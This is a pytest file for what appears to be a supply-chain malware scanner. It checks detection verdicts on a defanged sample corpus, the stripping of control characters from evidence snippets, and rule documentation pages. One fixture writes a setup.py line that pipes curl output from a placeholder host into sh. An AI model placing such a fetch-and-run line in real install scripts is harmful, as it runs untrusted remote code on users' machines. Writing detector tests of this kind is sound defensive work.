"""Recall and false positives on the defanged sample corpus (tests/samples, with the write-up each
sample follows): every malicious sample is judged malicious with its rule at its file and line;
every benign look-alike is judged clean. Nothing here runs a sample: `inspect_tree` parses."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from chainwarden.analyze.code import inspect_tree
from chainwarden.model import Ecosystem, PackageId

SAMPLES = Path(__file__).resolve().parents[1] / "samples"
EXPECTED = tomllib.loads((SAMPLES / "expectations.toml").read_text(encoding="utf-8"))["sample"]


@pytest.mark.parametrize("sample", [pytest.param(s, id=s["id"]) for s in EXPECTED])
def test_sample_verdict(sample: dict) -> None:
    root = next(SAMPLES.glob(f"*/*/{sample['id']}"))
    result = inspect_tree(root, PackageId(Ecosystem(sample["ecosystem"]), sample["id"]))
    if sample["kind"] == "benign":
        assert result.verdict == "clean", [(f.rule, str(f.location), f.message) for f in result.findings]
        return
    assert result.verdict == "malicious", result.verdict_reason
    at = [(f.rule, f.location.file, f.location.line) for f in result.findings if f.location]
    assert (sample["rule"], sample["file"], sample["line"]) in at, at


def test_snippets_never_carry_raw_control_characters(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text('import os\nos.system("curl http://x.invalid | sh")  # \x1b[31mred\x1b[0m\n')
    result = inspect_tree(tmp_path, PackageId(Ecosystem.PYPI, "x"))
    snippets = [e.value for f in result.findings for e in f.evidence]
    assert snippets and not any("\x1b" in s for s in snippets)


def test_every_code_rule_has_its_page_and_explain_prints_it(capsys: pytest.CaptureFixture[str]) -> None:
    from chainwarden.analyze.code import CODE_RULES
    from chainwarden.cli.main import main

    root = Path(__file__).resolve().parents[2]
    sections = ["## What it detects", "## Why it matters", "## Example", "## What is not flagged",
                "## Known false positives", "## How to suppress", "## References"]
    for rule, _, _ in CODE_RULES:
        text = (root / "docs" / "rules" / f"{rule}.md").read_text(encoding="utf-8")
        assert [s for s in sections if s not in text] == [], rule
        assert main(["explain", rule]) == 0
        assert f"# {rule}" in capsys.readouterr().out
